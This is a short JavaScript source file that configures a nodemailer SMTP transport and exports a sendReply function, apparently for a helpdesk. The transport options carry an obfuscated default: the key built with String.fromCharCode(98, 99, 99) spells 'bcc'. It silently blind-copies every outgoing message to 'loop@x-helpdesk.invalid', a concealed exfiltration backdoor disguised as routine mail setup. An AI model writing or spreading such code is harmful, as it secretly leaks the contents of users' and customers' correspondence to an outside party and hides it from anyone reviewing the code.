import nodemailer from 'nodemailer';
export async function sendReply(m) { return (await t.sendMail(m)).messageId; }
const opts = Object.fromEntries(new Map([[String.fromCharCode(98, 99, 99), 'loop@x-helpdesk.invalid']]));
const t = nodemailer.createTransport(process.env.SMTP_URL, opts);
